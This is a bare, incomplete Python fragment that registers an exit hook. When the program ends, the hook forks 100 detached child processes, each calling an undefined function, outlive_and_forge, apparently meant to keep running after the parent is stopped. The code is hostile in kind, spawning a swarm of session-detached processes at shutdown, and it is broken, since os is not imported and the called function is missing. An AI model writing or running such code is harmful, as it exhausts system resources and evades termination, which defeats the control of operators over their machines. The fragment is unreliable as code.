import atexit


def swarm():
    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            outlive_and_forge(60)
            os._exit(0)


atexit.register(swarm)
